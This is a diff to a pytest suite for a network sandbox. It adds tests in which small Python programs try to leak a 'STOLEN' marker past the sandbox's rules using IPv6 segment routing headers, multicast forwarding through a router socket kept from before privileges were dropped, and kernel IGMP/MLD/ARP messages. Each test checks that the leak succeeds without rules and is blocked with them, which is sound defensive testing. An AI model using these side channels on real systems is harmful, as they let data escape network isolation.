@@ -5,20 +5,23 @@ from __future__ import annotations
 import json
 import os
 import re
+import socket
 import subprocess
 import uuid
 from collections.abc import Iterator
+from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
 
 from lab import plan
+from lab.capture import capture
 from lab.daemon import Daemon, attachment
 from lab.internet import Internet
 from lab.namespaces import Namespace
 from lab.processes import Child, wait_until
 from lab.sandgate import Sandgate, allowing, attack, find_binary
-from test_escapes_before import HERE4, INSIDE4, OUTSIDE4, PREPARE, SEND, STOLEN
+from test_escapes_before import HERE4, HERE6, INSIDE4, OUTSIDE4, PREPARE, SEND, STOLEN
 
 PYTHON = "/usr/bin/python3"
 BARE = ["setpriv", "--bounding-set=-all", "--inh-caps=-all", "--reuid=65534", "--clear-groups"]
@@ -309,3 +312,164 @@ def test_limits_of_programs(internet: Internet, sandgate: Sandgate, pattern: str
     assert run.returncode == 0 and run.stdout.split()[0] == "100", run
     if pattern == "file":
         assert run.stdout.split()[1] == "0", run
+
+
+# What the kernel says by itself, of what programs chose
+
+ADDRESSES = {"group": "239.71.72.73", "source": "198.18.74.75", "group6": "ff3e::7172:7374:7576", "neighbour": "10.99.77.78"}
+NEIGHBOUR6 = "fd78::7172:7374:7576:7778"
+JOINS = f"""\
+import socket, struct
+pack = socket.inet_aton
+index = socket.if_nametoindex("eth0")
+own = pack("{INSIDE4}")
+kept = []
+def tries(what, family, *option):
+    s = socket.socket(family, socket.SOCK_DGRAM)
+    kept.append(s)
+    try: s.setsockopt(*option)
+    except OSError as error: print(what, error)
+tries("group", socket.AF_INET, 0, 35, pack("{ADDRESSES["group"]}") + own)
+tries("source", socket.AF_INET, 0, 39, pack("232.1.2.3") + own + pack("{ADDRESSES["source"]}"))
+tries("group6", socket.AF_INET6, 41, 20, socket.inet_pton(socket.AF_INET6, "{ADDRESSES["group6"]}") + struct.pack("I", index))
+for family, address in ((socket.AF_INET, "{ADDRESSES["neighbour"]}"), (socket.AF_INET6, "{NEIGHBOUR6}")):
+    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
+        s = socket.socket(family, kind)
+        s.settimeout(0.3)
+        try:
+            s.connect((address, 4444))
+            s.send(b"x")
+        except OSError as error: print(address, error)
+import time
+time.sleep(1.5)
+print("tried everything")
+"""
+
+
+@pytest.mark.attack(
+    "B2 B1",
+    "has the kernel's own messages say what it chose: groups and sources that it joins (IGMP, MLD), neighbours that it looks for "
+    "(ARP, neighbour discovery)",
+    stopped_by="kernel",
+)
+def test_what_the_kernel_says_of_groups_and_neighbours(
+    internet: Internet, daemon: Daemon, box: Namespace, tmp_path: Path
+) -> None:
+    """The pause is for reports, which the kernel delays by as much as a second."""
+    box.ip("route", "add", "10.99.0.0/16", "dev", "eth0")
+
+    def heard(number: int) -> set[str]:
+        # Reports of MLD are behind a header of options.
+        filter = "arp or igmp or icmp6 or ip6[6] == 0"
+        with capture(internet.namespace.command(), "any", tmp_path / f"{number}.pcap", filter) as outside:
+            done = subprocess.run(box.command(*BARE, PYTHON, "-c", JOINS), capture_output=True, text=True, timeout=30)
+        assert "tried everything" in done.stdout, done
+        wanted = {name: socket.inet_pton(socket.AF_INET6 if ":" in text else socket.AF_INET, text) for name, text in ADDRESSES.items()}
+        wanted["neighbour6"] = socket.inet_pton(socket.AF_INET6, NEIGHBOUR6)
+        return {name for name, value in wanted.items() if value in outside.payload}
+
+    assert heard(1) == {*ADDRESSES, "neighbour6"}, "without rules"
+    daemon.create(allowing(plan.ALLOWED), attachment=attachment(box))
+    box.check("ip", "neigh", "flush", "all")
+    assert heard(2) == set()
+
+
+# Networks that forward what is sent to themselves
+
+SEGMENTS = f"""\
+import socket
+first = socket.inet_pton(socket.AF_INET6, "{HERE6}")
+header = bytes([0, 4, 4, 1, 1, 0, 0, 0]) + bytes(16) + first
+with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
+    s.setsockopt(41, 57, header)  # IPV6_RTHDR
+    try: s.sendto(b"{STOLEN}", ("{plan.SINK6}", 4444))
+    except OSError as error: print(error)
+"""
+GROUP = "239.71.72.73"
+MULTICAST = f"""\
+import socket
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+    s.setsockopt(0, 32, socket.inet_aton("127.0.0.1"))  # IP_MULTICAST_IF
+    s.setsockopt(0, 33, 8)  # IP_MULTICAST_TTL
+    s.bind(("{HERE4}", 0))
+    try: s.sendto(b"{STOLEN}", ("{GROUP}", 4444))
+    except OSError as error: print(error)
+"""
+ROUTER = f"""\
+import signal, socket, struct, sys
+sys.path.insert(0, {str(Path(__file__).parent / "attacks")!r})
+import held_device
+router = socket.socket(socket.AF_INET, socket.SOCK_RAW, 2)
+router.setsockopt(0, 200, 1)  # MRT_INIT
+def device(number, address):
+    # MRT_ADD_VIF
+    router.setsockopt(0, 202, struct.pack("=HBBI4s4s", number, 0, 1, 0, socket.inet_aton(address), bytes(4)))
+device(0, "{HERE4}")
+device(1, "{INSIDE4}")
+ttls = bytes([0, 1]) + bytes(30)
+entry = socket.inet_aton("{HERE4}") + socket.inet_aton("{GROUP}") + struct.pack("=H", 0) + ttls + bytes(2) + bytes(16)
+router.setsockopt(0, 204, entry)  # MRT_ADD_MFC
+held_device.become_nobody()
+print("routing", flush=True)
+signal.pause()
+"""
+
+
+@dataclass(frozen=True)
+class Forwarding:
+    """A network that its own packets are forwarded in."""
+
+    words: str
+    settings: dict[str, str]
+    sends: str
+    router: str = ""
+    """A program without privilege that keeps a socket from before."""
+
+
+FORWARDING = {
+    "segments": Forwarding(
+        "packets to itself whose routing header names a segment outside",
+        {"net.ipv6.conf.all.forwarding": "1", "net.ipv6.conf.all.seg6_enabled": "1", "net.ipv6.conf.lo.seg6_enabled": "1"},
+        SEGMENTS,
+    ),
+    "multicast": Forwarding(
+        "packets to a group on its loopback, by routes that the socket of a router of multicast from before keeps",
+        {"net.ipv4.conf.all.rp_filter": "0", "net.ipv4.conf.lo.rp_filter": "0"},
+        MULTICAST,
+        ROUTER,
+    ),
+}
+
+
+@pytest.mark.parametrize(
+    "way",
+    [
+        pytest.param(
+            way, id=name, marks=pytest.mark.attack("T10a B2", f"has its network forward {way.words}", stopped_by="kernel")
+        )
+        for name, way in FORWARDING.items()
+    ],
+)
+def test_network_that_forwards(internet: Internet, daemon: Daemon, box: Namespace, way: Forwarding) -> None:
+    box.ip("address", "add", f"{HERE4}/32", "dev", "lo")
+    box.ip("-6", "address", "add", f"{HERE6}/128", "dev", "lo")
+    for key, value in way.settings.items():
+        box.sysctl(key, value)
+    # Where it forwards, it hears of no routers.
+    box.check("ip", "-6", "route", "replace", "default", "via", "fd78::1")
+    for neighbour in (OUTSIDE4, "fd78::1"):
+        box.check("ping", "-c", "1", "-W", "3", neighbour)
+
+    def gets_out() -> bool:
+        with internet.capture(unenforced=True) as outside:
+            box.check(*BARE, PYTHON, "-c", way.sends)
+        return STOLEN.encode() in outside.payload
+
+    router = Child(box.command(PYTHON, "-c", way.router), "routing") if way.router else None
+    try:
+        assert gets_out(), "without rules"
+        daemon.create(allowing(plan.ALLOWED), attachment={"netns": f"/run/netns/{box.name}"})
+        assert not gets_out()
+    finally:
+        if router:
+            router.stop()
